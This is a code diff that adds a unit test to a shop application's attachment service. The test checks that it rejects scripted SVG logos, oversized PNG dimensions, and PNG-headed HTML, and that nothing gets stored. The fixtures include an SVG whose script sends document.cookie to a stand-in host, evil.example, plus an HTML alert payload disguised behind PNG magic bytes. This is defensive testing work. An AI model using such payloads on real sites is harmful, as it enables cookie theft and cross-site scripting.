@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { backupNow } from '../../../db/backup';
 import { openDatabase } from '../../../db/open';
 import { fixedClock, settingsOn } from '../../../test/services';
-import { pngFile } from '../../../test/pngFile';
+import { pngClaiming, pngFile } from '../../../test/pngFile';
 import { useTempDir } from '../../../test/tempDir';
 import { createMemoryLogger } from '../logger';
 import { pruneStore } from '../store/pruning';
@@ -60,6 +60,28 @@ describe('attachments are stored once, by hash', () => {
     const notAnUpload = attachments.upload({ group: 'company.general', field: 'companyName', name: 'x.png', bytes: logo }, 'nl');
     expect(notAnUpload).toMatchObject({ ok: false, error: { message: 'Bedrijfsnaam is geen veld voor een bestand.' } });
     expect(count('blobs')).toBe(0);
+    store.close();
+  });
+
+  it('refuses an SVG logo that runs a script, an image too large to draw and a file that only starts like a PNG, and stores nothing', () => {
+    const { store, attachments, count } = shop();
+    const upload = (name: string, bytes: Buffer, lang: 'nl' | 'en' = 'nl') => attachments.upload({ group: 'company.general', field: 'logo', name, bytes }, lang);
+    const scripted = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/"+document.cookie)</script></svg>');
+    expect(upload('logo.svg', scripted)).toMatchObject({
+      ok: false,
+      error: { fields: [{ field: 'logo', message: 'Logo: deze SVG bevat scripts, HTML of verwijzingen naar andere bestanden of websites. Een logo is alleen een tekening: exporteer het opnieuw als eenvoudige SVG of als PNG.' }] },
+    });
+    const huge = pngClaiming(20000, 20000);
+    expect(huge.length).toBeLessThan(1024);
+    expect(upload('logo.png', huge)).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo is te groot: 20000 × 20000 pixels, hoogstens 4000 × 4000.' }] } });
+    expect(attachments.upload({ group: 'company.general', field: 'logoMonochrome', name: 'bon.png', bytes: pngClaiming(5000, 200) }, 'en')).toMatchObject({
+      ok: false,
+      error: { fields: [{ field: 'logoMonochrome', message: 'Black-and-white logo for receipt printer is too large: 5000 × 200 pixels, at most 4000 × 4000.' }] },
+    });
+    const pngThenHtml = Buffer.concat([pngFile(1, 1, [0, 0, 0]).subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')]);
+    expect(upload('logo.png', pngThenHtml)).toMatchObject({ ok: false, error: { fields: [{ field: 'logo', message: 'Logo moet een PNG-, JPEG- of SVG-afbeelding zijn.' }] } });
+    expect(count('blobs')).toBe(0);
+    expect(upload('logo.png', pngClaiming(4000, 4000))).toMatchObject({ ok: true });
     store.close();
   });
 
